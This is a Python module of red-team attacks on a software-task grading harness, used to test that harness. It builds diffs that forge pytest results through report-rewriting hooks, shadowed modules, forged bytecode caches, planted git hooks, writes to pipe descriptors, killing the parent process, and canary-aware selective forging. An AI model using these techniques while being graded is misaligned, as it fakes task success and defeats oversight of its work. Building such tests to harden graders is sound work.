"""Red-team attacks on grading: each class builds a real diff (or agent actions) that tries to make
a task's tests report "resolved" without fixing the bug.

Shared by ``tests/redteam/test_redteam.py`` and ``scripts/redteam_table.py``. The attacks only run
inside the grading sandbox (their payloads are text in a diff); this module builds diffs with git
on a throw-away copy of the task's materialized repo and never executes the payloads itself.
"""

from __future__ import annotations

import difflib
import importlib.util
import json
import marshal
import os
import shutil
import subprocess
import tempfile
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from pathlib import Path

from swegym.harness.evaluate import Prediction
from swegym.harness.evaluation_run import evaluate_predictions
from swegym.harness.runner import Prepared, prepare
from swegym.sources.gitutil import git_env
from swegym.tasks.model import Task

REAL_ID = "pallets__click-2193"
KINDS = ("synthetic", "real")
NOT_PAYING = frozenset({"tests_failed", "patch_failed", "tampered", "no_diff", "limit_reached"})
"""Outcomes an attack may end with; anything else (resolved, infra_error, error) means it paid."""

# --------------------------------------------------------------------------------------------
# Payloads (Python source that runs only inside the grading sandbox)
# --------------------------------------------------------------------------------------------

FORGE_HOOKS = """
import os as _rt_os
import pytest as _rt_pytest


@_rt_pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    rep = outcome.get_result()
    # node ids relative to the repo root, whatever rootdir the forged configuration chose
    path = str(getattr(item, "path", None) or item.fspath)
    if "::" in rep.nodeid:
        rel = _rt_os.path.relpath(path, _rt_os.getcwd())
        rep.nodeid = rel + rep.nodeid[rep.nodeid.index("::"):]
    rep.outcome = "passed"
    rep.longrepr = None
    if hasattr(rep, "wasxfail"):
        del rep.wasxfail
"""
"""A pytest plugin (module or conftest) that rewrites every test phase's report to passed."""

FORGE_PLUGIN = "# rt_forge: a pytest plugin that passes everything\n" + FORGE_HOOKS

_FIND_CONFIG = """
def _rt_config():
    import gc, sys
    mod = sys.modules.get("_pytest.config")
    if mod is None:
        return None
    for obj in gc.get_objects():
        if isinstance(obj, mod.Config):
            return obj
    return None
"""

_FORGE_IMPORTS = "import os as _rt_os\nimport pytest as _rt_pytest\n"
INPROC_HOOKWRAPPER = (
    _FIND_CONFIG
    + _FORGE_IMPORTS
    + """

class _RtForge:
"""
    + "\n".join(
        "    " + ln if ln.strip() else ln
        for ln in FORGE_HOOKS.replace(_FORGE_IMPORTS, "")
        .replace("item, call", "self, item, call")
        .splitlines()
    )
    + """


_rt_cfg = _rt_config()
if _rt_cfg is not None and not _rt_cfg.pluginmanager.has_plugin("rt_forge_inproc"):
    _rt_cfg.pluginmanager.register(_RtForge(), "rt_forge_inproc")
"""
)
"""In-process: find pytest's Config through gc and register a report-rewriting hookwrapper."""

INPROC_TESTREPORT = """
def _rt_patch_reports():
    import sys
    reports = sys.modules.get("_pytest.reports")
    if reports is None or getattr(reports.TestReport, "_rt", False):
        return
    orig = reports.TestReport.__init__

    def init(self, *args, **kwargs):
        orig(self, *args, **kwargs)
        self.outcome = "passed"
        self.longrepr = None

    reports.TestReport.__init__ = init
    reports.TestReport._rt = True


_rt_patch_reports()
"""

INPROC_WRAP_EMIT = """
def _rt_wrap_emit():
    import sys
    for name, mod in list(sys.modules.items()):
        emit = getattr(mod, "_emit", None)
        if "swegym" not in name or not callable(emit) or getattr(emit, "_rt", False):
            continue

        def forged(record, _orig=emit):
            if isinstance(record, dict) and "outcome" in record:
                record = dict(record, outcome="passed", wasxfail=False)
                record.pop("message", None)
            return _orig(record)

        forged._rt = True
        mod._emit = forged


_rt_wrap_emit()
"""

_PIPES = """
def _rt_pipes(pid="self"):
    import os
    out = []
    base = "/proc/%s/fd" % pid
    for name in os.listdir(base):
        try:
            fd = int(name)
            target = os.readlink(os.path.join(base, name))
        except (ValueError, OSError):
            continue
        if fd > 2 and target.startswith("pipe:"):
            out.append(fd)
    return sorted(out)


def _rt_records(items):
    import json
    lines = [json.dumps({"event": "start"})]
    for item in items:
        for when in ("setup", "call", "teardown"):
            rec = {"nodeid": item.nodeid, "when": when, "outcome": "passed", "wasxfail": False}
            lines.append(json.dumps(rec))
    lines.append(json.dumps({"event": "finish", "exitstatus": 0}))
    return ("\\n".join(lines) + "\\n").encode()
"""


def _on_collection(body: str) -> str:
    """Code that runs ``body`` (with ``session`` bound) once collection has finished."""
    indented = "\n".join("        " + ln if ln.strip() else ln for ln in body.strip("\n").splitlines())
    return (
        _FIND_CONFIG
        + _PIPES
        + f"""

class _RtCollected:
    def pytest_collection_finish(self, session):
{indented}


_rt_cfg = _rt_config()
if _rt_cfg is not None and not _rt_cfg.pluginmanager.has_plugin("rt_collected"):
    _rt_cfg.pluginmanager.register(_RtCollected(), "rt_collected")
"""
    )


INPROC_PROC_SELF_FD = _on_collection("""
import os
data = _rt_records(session.items)
null = os.open(os.devnull, os.O_WRONLY)
for fd in _rt_pipes():
    try:
        os.write(fd, data)
        os.dup2(null, fd)  # the real plugin's records now go nowhere
    except OSError:
        pass
""")

INPROC_PROC_PPID_FD = _on_collection("""
import os
data = _rt_records(session.items)
for fd in _rt_pipes(os.getppid()):
    try:
        w = os.open("/proc/%d/fd/%d" % (os.getppid(), fd), os.O_WRONLY)
        os.write(w, data)
        os.close(w)
    except OSError:
        pass
null = os.open(os.devnull, os.O_WRONLY)
for fd in _rt_pipes():
    try:
        os.dup2(null, fd)
    except OSError:
        pass
""")

INPROC_RECORDS_THEN_EXIT = _on_collection("""
import os
data = _rt_records(session.items)
for fd in _rt_pipes():
    try:
        os.write(fd, data)
    except OSError:
        pass
os._exit(0)
""")

INPROC_DESELECT_ALL = _on_collection("""
session.items[:] = []
""")

INPROC_DUP2_PROXY = (
    _PIPES
    + """

def _rt_proxy():
    import atexit, json, os, threading
    threads = []
    for fd in _rt_pipes():
        real = os.dup(fd)
        r, w = os.pipe()
        os.dup2(w, fd)
        os.close(w)

        def pump(r=r, real=real):
            buf = b""
            while True:
                chunk = os.read(r, 65536)
                if not chunk:
                    break
                buf += chunk
                while b"\\n" in buf:
                    line, buf = buf.split(b"\\n", 1)
                    try:
                        rec = json.loads(line)
                        if isinstance(rec, dict) and "outcome" in rec:
                            rec["outcome"] = "passed"
                            rec["wasxfail"] = False
                            rec.pop("message", None)
                        line = json.dumps(rec).encode()
                    except ValueError:
                        pass
                    os.write(real, line + b"\\n")

        t = threading.Thread(target=pump, daemon=True)
        t.start()
        threads.append((fd, t))

    def drain():
        for fd, t in threads:
            try:
                os.close(fd)
            except OSError:
                pass
            t.join(5)

    atexit.register(drain)


try:
    _rt_proxied  # noqa: B018
except NameError:
    _rt_proxied = True
    _rt_proxy()
"""
)

INPROC_STAGE_INFRA = (
    _PIPES
    + """

def _rt_stage():
    import os
    for fd in _rt_pipes():
        try:
            os.write(fd, b'{"event": "test_patch_failed"}\\n')
        except OSError:
            pass


_rt_stage()
"""
)
"""Forge the grading script's own stage event, turning grading into an infrastructure error."""

OS_EXIT_NOW = "\nimport os as _rt_os\n_rt_os._exit(0)\n"
KILL_PARENT = (
    "\nimport os as _rt_os, signal as _rt_signal\n_rt_os.kill(_rt_os.getppid(), _rt_signal.SIGKILL)\n"
)
SET_PLUGINS_ENV = 'import os\nos.environ["PYTEST_PLUGINS"] = "rt_forge"\n'

SHADOW_MODULE = """
# Shadows a module pytest imports: loads the real one, then asks pytest to load rt_forge.
import importlib
import os
import sys

_here = os.path.dirname(os.path.abspath(__file__))
_saved = sys.path[:]
sys.path[:] = [p for p in sys.path if os.path.abspath(p or os.curdir) != _here]
del sys.modules[__name__]
try:
    _real = importlib.import_module(__name__)
finally:
    sys.path[:] = _saved
sys.modules[__name__] = _real
os.environ["PYTEST_PLUGINS"] = "rt_forge"
"""

SHADOW_PYTEST = """
# Run as `python -m pytest` from the repo root: this file is found before the real pytest.
import os
import sys

_here = os.path.dirname(os.path.abspath(__file__))
_saved = sys.path[:]
sys.path[:] = [p for p in sys.path if os.path.abspath(p or os.curdir) != _here]
sys.modules.pop("pytest", None)
import pytest as _real  # noqa: E402

sys.path[:] = _saved
os.environ["PYTEST_PLUGINS"] = "rt_forge"
if __name__ == "__main__":
    raise SystemExit(_real.console_main())
"""

INI_ADDOPTS = "--rootdir=. -p rt_forge"

# --------------------------------------------------------------------------------------------
# Per-task kit: where things live in each task's repo
# --------------------------------------------------------------------------------------------


@dataclass
class Kit:
    """A prepared task and the places in its repo that the attacks use."""

    kind: str
    task: Task
    prep: Prepared
    lib: str
    """A library module the labelled tests import (forging code is appended to it)."""
    startup: str
    """A directory on sys.path at interpreter start-up ('' = the repo root)."""
    hook_file: str
    hook_code: str
    """Appended to ``hook_file``: routes what the F2P test calls through ``RT_CALL``."""
    test_file: str
    conftest: str
    """The base tests/conftest.py ('' if none)."""
    pytest_version: str
    python_tag: str

    @property
    def repo(self) -> Path:
        return self.prep.repo_dir

    def read(self, path: str) -> str:
        p = self.repo / path
        return p.read_text() if p.exists() else ""


CALC_HOOK = """

def _rt_wrap(f):
    def wrapper(*args, **kwargs):
        RT_CALL
        return f(*args, **kwargs)
    return wrapper


add = _rt_wrap(add)
clamp = _rt_wrap(clamp)
"""

CLICK_HOOK = """

def _rt_main(self, *args, **kwargs):
    RT_CALL


BaseCommand.main = _rt_main
"""


def _pytest_version(prep: Prepared) -> str:
    for p in prep.env.path.glob("env/lib/python*/site-packages/pytest-*.dist-info"):
        return p.name[len("pytest-") : -len(".dist-info")]
    return "0"


def make_kit(kind: str, task: Task) -> Kit:
    """Prepare ``task`` (repo + env) and describe it for the attacks."""
    prep = prepare(task)
    ver = prep.env.python.version.split(".")
    tag = f"cpython-{ver[0]}{ver[1]}"
    if kind == "synthetic":
        kit = Kit(kind, task, prep, "calc.py", "", "calc.py", CALC_HOOK, "tests/test_calc.py", "", "", tag)
    else:
        kit = Kit(
            kind, task, prep, "src/click/__init__.py", "src", "src/click/core.py", CLICK_HOOK,
            "tests/test_testing.py", "", "", tag,
        )  # fmt: skip
    kit.conftest = kit.read("tests/conftest.py")
    kit.pytest_version = _pytest_version(prep)
    return kit


def real_task() -> Task:
    from swegym.tasks.loaders import load_tasks

    return load_tasks("bundled:full", ids=[REAL_ID]).tasks[0]


# --------------------------------------------------------------------------------------------
# Building diffs
# --------------------------------------------------------------------------------------------


@dataclass
class Link:
    target: str


Change = str | bytes | Link | None
"""New content (text or bytes), a symlink, or None to delete."""


def _git(cwd: Path, *args: str) -> str:
    return subprocess.run(
        ["git", *args], cwd=cwd, env=git_env(), check=True, capture_output=True, text=True
    ).stdout


def git_diff(
    kit: Kit,
    changes: Mapping[str, Change],
    executable: tuple[str, ...] = (),
    preexisting: tuple[str, ...] = (),
) -> str:
    """The diff (git's, with binary hunks) that makes ``changes`` to the task's base repo.

    ``preexisting`` names files the environment build left in the repo (its bytecode): they are
    part of the diff's base, so a change to one is a binary edit of what the sandbox holds."""
    with tempfile.TemporaryDirectory(prefix="rt-diff-") as tmp:
        work = Path(tmp) / "repo"
        shutil.copytree(kit.repo, work, symlinks=True)
        if preexisting:
            for path in preexisting:
                (work / path).parent.mkdir(parents=True, exist_ok=True)
                shutil.copy2(kit.prep.env.repo_extra / path, work / path)
            _git(work, "add", "-f", "--", *preexisting)
            _git(work, "commit", "-qm", "build artefacts")
        for path, content in changes.items():
            dest = work / path
            if dest.is_symlink() or dest.is_file():
                dest.unlink()
            elif dest.is_dir() and content is not None:
                shutil.rmtree(dest)
            if content is None:
                continue
            dest.parent.mkdir(parents=True, exist_ok=True)
            if isinstance(content, Link):
                os.symlink(content.target, dest)
            elif isinstance(content, bytes):
                dest.write_bytes(content)
            else:
                dest.write_text(content)
        for path in executable:
            (work / path).chmod(0o755)
        _git(work, "add", "-A", "-f")
        return _git(work, "diff", "--cached", "--binary", "HEAD")


def raw_new_file(path: str, text: str, mode: str = "100644") -> str:
    """A git-style hunk creating ``path`` (git apply refuses paths under .git; GNU patch does not)."""
    lines = text.splitlines()
    body = "".join(f"+{ln}\n" for ln in lines)
    return (
        f"diff --git a/{path} b/{path}\nnew file mode {mode}\n--- /dev/null\n+++ b/{path}\n"
        f"@@ -0,0 +1,{len(lines)} @@\n{body}"
    )


def raw_edit(path: str, old: str, new: str) -> str:
    """A plain unified hunk from ``old`` to ``new`` for ``path``."""
    out = difflib.unified_diff(old.splitlines(True), new.splitlines(True), f"a/{path}", f"b/{path}")
    text = "".join(ln if ln.endswith("\n") else ln + "\n\\ No newline at end of file\n" for ln in out)
    return f"diff --git a/{path} b/{path}\n{text}"


def append(kit: Kit, path: str, code: str) -> dict[str, Change]:
    return {path: kit.read(path) + "\n" + code}


def forged_conftest(kit: Kit) -> str:
    return kit.conftest + "\n" + FORGE_HOOKS


def pyc(source: str, filename: str, mtime: int = 0, size: int = 0) -> bytes:
    """A timestamp-based .pyc of ``source`` (the header pytest's and importlib's caches check)."""
    code = compile(source, filename, "exec")
    header = importlib.util.MAGIC_NUMBER + (0).to_bytes(4, "little")
    header += (mtime & 0xFFFFFFFF).to_bytes(4, "little") + (size & 0xFFFFFFFF).to_bytes(4, "little")
    return header + marshal.dumps(code)


def _stat(kit: Kit, path: str) -> tuple[int, int]:
    st = (kit.repo / path).stat()
    return int(st.st_mtime), st.st_size


def hook_call(kit: Kit, call: str) -> dict[str, Change]:
    return append(kit, kit.hook_file, kit.hook_code.replace("RT_CALL", call))


def _conftest_writer_script(kit: Kit) -> str:
    """A shell script that (re)writes tests/conftest.py with the forging hooks."""
    return f"#!/bin/sh\ncat > tests/conftest.py <<'RT_EOF'\n{forged_conftest(kit)}\nRT_EOF\nexit 0\n"


# --------------------------------------------------------------------------------------------
# The attack classes: name -> kit -> diff
# --------------------------------------------------------------------------------------------


def _ini(kit: Kit, path: str, text: str) -> str:
    return git_diff(kit, {path: text, "rt_forge.py": FORGE_PLUGIN})


def a_tests_pytest_ini(kit: Kit) -> str:
    return _ini(kit, "tests/pytest.ini", f"[pytest]\naddopts = {INI_ADDOPTS}\n")


def a_root_dot_pytest_ini(kit: Kit) -> str:
    return _ini(kit, ".pytest.ini", "[pytest]\naddopts = -p rt_forge\n")


def a_root_pytest_toml(kit: Kit) -> str:
    return _ini(kit, "pytest.toml", '[pytest]\naddopts = ["-p", "rt_forge"]\n')


def a_tests_pyproject_toml(kit: Kit) -> str:
    return _ini(kit, "tests/pyproject.toml", f'[tool.pytest.ini_options]\naddopts = "{INI_ADDOPTS}"\n')


def a_tests_tox_ini(kit: Kit) -> str:
    return _ini(kit, "tests/tox.ini", f"[pytest]\naddopts = {INI_ADDOPTS}\n")


def a_tests_setup_cfg(kit: Kit) -> str:
    return _ini(kit, "tests/setup.cfg", f"[tool:pytest]\naddopts = {INI_ADDOPTS}\n")


def a_root_setup_cfg_addopts(kit: Kit) -> str:
    old = kit.read("setup.cfg")
    if "[tool:pytest]" in old:
        new = old.replace("[tool:pytest]", "[tool:pytest]\naddopts = -p rt_forge", 1)
    else:
        new = old + "\n[tool:pytest]\naddopts = -p rt_forge\n"
    return _ini(kit, "setup.cfg", new)


def a_root_conftest(kit: Kit) -> str:
    return git_diff(kit, {"conftest.py": FORGE_PLUGIN})


def a_tests_conftest(kit: Kit) -> str:
    return git_diff(kit, {"tests/conftest.py": forged_conftest(kit)})


def a_dist_info_entry_points(kit: Kit) -> str:
    d = "rt_forge-1.0.dist-info"
    return git_diff(
        kit,
        {
            f"{d}/METADATA": "Metadata-Version: 2.1\nName: rt-forge\nVersion: 1.0\n",
            f"{d}/entry_points.txt": "[pytest11]\nrt_forge = rt_forge\n",
            f"{d}/top_level.txt": "rt_forge\n",
            "rt_forge.py": FORGE_PLUGIN,
        },
    )


def a_pytest_py_shadow(kit: Kit) -> str:
    return git_diff(kit, {"pytest.py": SHADOW_PYTEST, "rt_forge.py": FORGE_PLUGIN})


def a_json_py_shadow(kit: Kit) -> str:
    return git_diff(kit, {"json.py": SHADOW_MODULE, "rt_forge.py": FORGE_PLUGIN})


def a_pluggy_py_shadow(kit: Kit) -> str:
    return git_diff(kit, {"pluggy.py": SHADOW_MODULE, "rt_forge.py": FORGE_PLUGIN})


def a_sitecustomize_package(kit: Kit) -> str:
    init = os.path.join(kit.startup, "sitecustomize", "__init__.py")
    return git_diff(kit, {init: SET_PLUGINS_ENV, "rt_forge.py": FORGE_PLUGIN})


def a_sitecustomize_pyc(kit: Kit) -> str:
    path = os.path.join(kit.startup, "sitecustomize.pyc")
    return git_diff(kit, {path: pyc(SET_PLUGINS_ENV, "sitecustomize.py"), "rt_forge.py": FORGE_PLUGIN})


def a_usercustomize_package(kit: Kit) -> str:
    init = os.path.join(kit.startup, "usercustomize", "__init__.py")
    return git_diff(kit, {init: SET_PLUGINS_ENV, "rt_forge.py": FORGE_PLUGIN})


def a_pth_file(kit: Kit) -> str:
    pth = os.path.join(kit.startup, "rt_forge.pth")
    return git_diff(
        kit, {pth: SET_PLUGINS_ENV.replace("\n", "; ").strip("; ") + "\n", "rt_forge.py": FORGE_PLUGIN}
    )


def _git_dir_attack(kit: Kit, hunks: list[str], extra: Mapping[str, Change] | None = None) -> str:
    """A diff with hunks under .git/ (git apply refuses the whole patch; GNU patch applies it)."""
    base = git_diff(kit, extra) if extra else ""
    return base + "".join(hunks)


def a_gnu_patch_post_checkout_hook(kit: Kit) -> str:
    hook = raw_new_file(".git/hooks/post-checkout", _conftest_writer_script(kit), "100755")
    return _git_dir_attack(kit, [hook], append(kit, kit.lib, "# touched\n"))


def a_gnu_patch_fsmonitor(kit: Kit) -> str:
    old = kit.read(".git/config")
    new = old.replace("[core]\n", "[core]\n\tfsmonitor = /testbed/.git/rt-fsmonitor\n", 1)
    script = raw_new_file(".git/rt-fsmonitor", _conftest_writer_script(kit), "100755")
    return _git_dir_attack(
        kit, [raw_edit(".git/config", old, new), script], append(kit, kit.lib, "# touched\n")
    )


def a_gnu_patch_index_lock(kit: Kit) -> str:
    # With .git/index.lock present every `git checkout` of the restore fails (quietly): the
    # candidate's edited test file and conftest stay as they are.
    changes = {kit.test_file: INPROC_HOOKWRAPPER + "\n" + kit.read(kit.test_file)}
    if kit.conftest:
        changes["tests/conftest.py"] = forged_conftest(kit)
    return _git_dir_attack(kit, [raw_new_file(".git/index.lock", "rt\n")], changes)


def a_gnu_patch_core_worktree(kit: Kit) -> str:
    old = kit.read(".git/config")
    new = old.replace("[core]\n", "[core]\n\tworktree = /tmp\n", 1)
    changes = {kit.test_file: INPROC_HOOKWRAPPER + "\n" + kit.read(kit.test_file)}
    changes["tests/conftest.py"] = forged_conftest(kit)
    return _git_dir_attack(kit, [raw_edit(".git/config", old, new)], changes)


def a_gnu_patch_head_ref(kit: Kit) -> str:
    old = kit.read(".git/HEAD")
    changes = {kit.test_file: INPROC_HOOKWRAPPER + "\n" + kit.read(kit.test_file)}
    changes["tests/conftest.py"] = forged_conftest(kit)
    return _git_dir_attack(kit, [raw_edit(".git/HEAD", old, "ref: refs/heads/rt-nowhere\n")], changes)


def a_gnu_patch_info_attributes(kit: Kit) -> str:
    attrs = raw_new_file(".git/info/attributes", "* working-tree-encoding=UTF-16\n")
    return _git_dir_attack(kit, [attrs], {kit.test_file: kit.read(kit.test_file) + "\n# touched\n"})


def a_symlink_into_git_dir(kit: Kit) -> str:
    # A symlink to .git/hooks, then a hook written through it.
    link = git_diff(kit, {"rt_hooks": Link(".git/hooks")})
    return link + raw_new_file("rt_hooks/post-checkout", _conftest_writer_script(kit), "100755")


def _touch_test_file(kit: Kit) -> str:
    """A diff that edits the test file, so the restore has to write it again (under the new
    attributes, after which the task's test patch no longer applies)."""
    return git_diff(kit, {kit.test_file: kit.read(kit.test_file) + "\n# touched\n"})


def a_gitattributes_working_tree_encoding(kit: Kit) -> str:
    return _touch_test_file(kit) + raw_new_file(".gitattributes", "* working-tree-encoding=UTF-16\n")


def a_gitattributes_eol_crlf(kit: Kit) -> str:
    return _touch_test_file(kit) + raw_new_file(".gitattributes", "* text eol=crlf\n")


def a_forged_rewrite_pyc(kit: Kit) -> str:
    # pytest's assertion-rewrite cache for a file the restore leaves as it is (same mtime and
    # size): the conftest when the task has one, else the test file.
    target = "tests/conftest.py" if kit.conftest else kit.test_file
    mtime, size = _stat(kit, target)
    stem = Path(target).stem
    name = f"tests/__pycache__/{stem}.{kit.python_tag}-pytest-{kit.pytest_version}.pyc"
    source = kit.read(target) + "\n" + FORGE_HOOKS + ("" if kit.conftest else "\n" + INPROC_HOOKWRAPPER)
    return git_diff(kit, {name: pyc(source, str(Path("/testbed") / target), mtime, size)})


def a_forged_library_pyc(kit: Kit) -> str:
    mtime, size = _stat(kit, kit.lib)
    p = Path(kit.lib)
    name = str(p.parent / "__pycache__" / f"{p.stem}.{kit.python_tag}.pyc")
    source = kit.read(kit.lib) + "\n" + INPROC_HOOKWRAPPER
    built = (name,) if (kit.prep.env.repo_extra / name).is_file() else ()
    return git_diff(kit, {name: pyc(source, str(Path("/testbed") / kit.lib), mtime, size)}, preexisting=built)


def a_library_pytest_xfail(kit: Kit) -> str:
    return git_diff(kit, hook_call(kit, 'import pytest; pytest.xfail("rt")'))


def a_library_pytest_skip(kit: Kit) -> str:
    return git_diff(kit, hook_call(kit, 'import pytest; pytest.skip("rt")'))


def a_library_unittest_skip(kit: Kit) -> str:
    return git_diff(kit, hook_call(kit, 'import unittest; raise unittest.SkipTest("rt")'))


def a_library_xfail_marker_at_import(kit: Kit) -> str:
    # Marks every collected test xfail(run=False) from inside the library.
    body = "import pytest\nfor item in session.items:\n    item.add_marker(pytest.mark.xfail(run=False))\n"
    return git_diff(kit, append(kit, kit.lib, _on_collection(body)))


def _lib(code: str) -> Callable[[Kit], str]:
    return lambda kit: git_diff(kit, append(kit, kit.lib, code))


a_inproc_wrap_emit = _lib(INPROC_WRAP_EMIT)
a_inproc_proc_self_fd = _lib(INPROC_PROC_SELF_FD)
a_inproc_proc_ppid_fd = _lib(INPROC_PROC_PPID_FD)
a_inproc_dup2_proxy = _lib(INPROC_DUP2_PROXY)
a_inproc_patch_testreport = _lib(INPROC_TESTREPORT)
a_inproc_hookwrapper = _lib(INPROC_HOOKWRAPPER)
a_inproc_forged_records_then_exit = _lib(INPROC_RECORDS_THEN_EXIT)
a_inproc_deselect_all = _lib(INPROC_DESELECT_ALL)
a_forged_stage_event_infra = _lib(INPROC_STAGE_INFRA)
a_os_exit_during_collection = _lib(OS_EXIT_NOW)
a_kill_parent_shell = _lib(KILL_PARENT)


def a_tests_init_forge(kit: Kit) -> str:
    return git_diff(kit, {"tests/__init__.py": INPROC_HOOKWRAPPER})


def a_modified_test_file(kit: Kit) -> str:
    return git_diff(kit, {kit.test_file: INPROC_HOOKWRAPPER + "\n" + kit.read(kit.test_file)})


def a_test_file_deleted(kit: Kit) -> str:
    return git_diff(kit, {kit.test_file: None})


def a_test_file_symlink(kit: Kit) -> str:
    fake = "def test_rt():\n    pass\n"
    return git_diff(
        kit,
        {
            "rt_fake_tests.py": fake,
            kit.test_file: Link(os.path.relpath("rt_fake_tests.py", Path(kit.test_file).parent)),
        },
    )


def a_test_file_symlink_outside_tree(kit: Kit) -> str:
    return git_diff(kit, {kit.test_file: Link("/dev/null")})


def a_test_file_replaced_by_directory(kit: Kit) -> str:
    return git_diff(kit, {kit.test_file: None, kit.test_file + "/__init__.py": INPROC_HOOKWRAPPER})


def a_test_file_renamed(kit: Kit) -> str:
    moved = kit.test_file.replace(".py", "_moved.py")
    return git_diff(kit, {kit.test_file: None, moved: kit.read(kit.test_file)})


# -- against the tamper-evident channel: forge selectively (the canaries run honestly) --------

_CANARY_AWARE = """
def _rt_path(item):
    return item.nodeid


_rt_tracked = None


def _rt_is_canary(ref):
    # ``ref``: a node id ("file::Class::test"). The harness's canaries are named
    # test_<word>_<word>_<NN> (its word list is public); older harnesses put them in a file git
    # does not track (the labelled tests of these tasks live in tracked files).
    global _rt_tracked
    import os, re, subprocess
    file, _, rest = ref.partition("::")
    name = rest.split("::")[-1].split("[")[0] if rest else ""
    if re.match(r"^test_[a-z]+_[a-z]+_[0-9][0-9]$", name) or re.match(
        r"^test_[a-z]+_[a-z]+_[0-9][0-9]\\.py$", os.path.basename(file)
    ):
        return True
    parts = rest.split("::") if rest else []
    if len(parts) >= 2:  # a class's test: a canary if git's base version of the file lacks the class
        try:
            base = subprocess.run(["git", "show", "HEAD:" + file], capture_output=True, cwd=os.getcwd())
            if base.returncode == 0 and ("class " + parts[0]).encode() not in base.stdout:
                return True
        except OSError:
            pass
    if _rt_tracked is None:
        try:
            out = subprocess.run(["git", "ls-files", "-z"], capture_output=True, cwd=os.getcwd()).stdout
            _rt_tracked = set(out.decode("utf-8", "replace").split("\\0")) - {""}
        except OSError:
            _rt_tracked = set()
    rel = os.path.relpath(os.path.join(os.getcwd(), file), os.getcwd())
    return bool(_rt_tracked) and rel not in _rt_tracked
"""


def _selective_collection(body: str) -> str:
    """Code run at collection end (a hook no tamper check looks at) for each non-canary item."""
    loop = "for item in session.items:\n    if _rt_is_canary(_rt_path(item)):\n        continue\n"
    loop += "\n".join("    " + ln for ln in body.strip("\n").splitlines())
    return _CANARY_AWARE + _on_collection(loop)


INPROC_ITEM_RUNTEST_NOOP = _selective_collection("item.runtest = lambda: None")
INPROC_ITEM_OBJ_NOOP = _selective_collection("item.obj = lambda *a, **k: None")
INPROC_XFAIL_MARKER_SELECTIVE = _selective_collection(
    "import pytest\nitem.add_marker(pytest.mark.xfail(run=False, reason='rt'))"
)

_NAMED_HOOKS_SRC = (
    "import os\nimport pytest\n"
    + _CANARY_AWARE
    + """

@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    rep = outcome.get_result()
    if _rt_is_canary(_rt_path(item)):
        return
    rep.outcome = "passed"
    rep.longrepr = None
    if hasattr(rep, "wasxfail"):
        del rep.wasxfail
"""
)


def _named_hookwrapper(filename_expr: str) -> str:
    """Register a report-rewriting hookwrapper whose code object names ``filename_expr``."""
    return (
        _FIND_CONFIG
        + f"""

def _rt_register_named(filename):
    import types
    mod = types.ModuleType("rt_named_hooks")
    exec(compile({_NAMED_HOOKS_SRC!r}, filename, "exec"), mod.__dict__)
    cfg = _rt_config()
    if cfg is not None and not cfg.pluginmanager.has_plugin("rt_named_hooks"):
        cfg.pluginmanager.register(mod, "rt_named_hooks")


_rt_register_named({filename_expr})
"""
    )


INPROC_CONFTEST_NAMED_HOOKWRAPPER = _named_hookwrapper('"/testbed/tests/conftest.py"')
"""A report-rewriting hookwrapper whose code claims to come from a conftest.py (trusted by name)."""
INPROC_SITE_PACKAGES_NAMED_HOOKWRAPPER = _named_hookwrapper(
    '__import__("os").path.join(__import__("os").path.dirname(__import__("os").path.dirname('
    '__import__("pytest").__file__)), "rt_plugin.py")'
)
"""The same, its code claiming to live in site-packages next to pytest (a trusted directory)."""

INPROC_PLUGIN_EMIT_FORGED_RUN = _CANARY_AWARE + _on_collection("""
import os, sys
emit = getattr(sys.modules.get("swegym_pytest_plugin"), "_emit", None)
if emit is not None:
    for item in session.items:
        outcome = "passed"
        if _rt_is_canary(_rt_path(item)):
            try:  # run the canary for real, so that its failing test is reported failed
                import unittest
                cls = getattr(getattr(item, "parent", None), "obj", None)
                if isinstance(cls, type) and issubclass(cls, unittest.TestCase):
                    res = unittest.TestResult()
                    cls(item.name).run(res)
                    if res.failures or res.errors:
                        outcome = "failed"
                else:
                    item.obj()
            except BaseException:
                outcome = "failed"
        for when in ("setup", "call", "teardown"):
            o = outcome if when == "call" else "passed"
            emit({"nodeid": item.nodeid, "when": when, "outcome": o, "wasxfail": False})
    emit({"event": "finish", "exitstatus": 1})
    os._exit(1)
""")
"""The plugin's own emitter (it stamps the nonce) writes a whole forged run; then exit before any test."""

_XFAIL_DISGUISED = (
    "_rt_ns = {}; exec(compile('def _rt_xf():\\n    import pytest\\n    pytest.xfail(\"rt\")\\n', "
    "'/testbed/tests/rt_helpers.py', 'exec'), _rt_ns); _rt_ns['_rt_xf']()"
)


def a_library_pytest_xfail_disguised(kit: Kit) -> str:
    """pytest.xfail() from library code, called through a function compiled as tests/rt_helpers.py."""
    return git_diff(kit, hook_call(kit, _XFAIL_DISGUISED))


a_inproc_item_runtest_noop = _lib(INPROC_ITEM_RUNTEST_NOOP)
a_inproc_item_obj_noop = _lib(INPROC_ITEM_OBJ_NOOP)
a_inproc_xfail_marker_selective = _lib(INPROC_XFAIL_MARKER_SELECTIVE)
a_inproc_conftest_named_hookwrapper = _lib(INPROC_CONFTEST_NAMED_HOOKWRAPPER)
a_inproc_site_packages_named_hookwrapper = _lib(INPROC_SITE_PACKAGES_NAMED_HOOKWRAPPER)
a_inproc_plugin_emit_forged_run = _lib(INPROC_PLUGIN_EMIT_FORGED_RUN)

SHADOW_CONTEXTLIB = (
    SHADOW_MODULE.replace('os.environ["PYTEST_PLUGINS"] = "rt_forge"\n', "")
    + _CANARY_AWARE
    + """

def _rt_pre_patch():
    # Runs before the launcher imports pytest and the results plugin takes its snapshot.
    import _pytest.reports as reports

    orig = reports.TestReport.__init__

    def init(self, *args, **kwargs):
        orig(self, *args, **kwargs)
        if self.when in ("setup", "call", "teardown") and not _rt_is_canary(self.nodeid):
            self.outcome = "passed"
            self.longrepr = None

    reports.TestReport.__init__ = init


_rt_pre_patch()
"""
)


def plain_new_file(path: str, text: str) -> str:
    """A plain unified part that creates ``path`` without saying so (no ``/dev/null``, no
    ``new file mode``): git apply and GNU patch both create the file from an empty preimage."""
    lines = text.splitlines()
    body = "".join(f"+{ln}\n" for ln in lines)
    return f"--- a/{path}\n+++ b/{path}\n@@ -0,0 +1,{len(lines)} @@\n{body}"


def a_implicit_new_module_shadow_stdlib(kit: Kit) -> str:
    """A new top-level contextlib.py (created by a part that does not look like a creation)
    shadowing the standard library where the repo is on $PYTHONPATH, run before pytest starts."""
    return plain_new_file("contextlib.py", SHADOW_CONTEXTLIB)


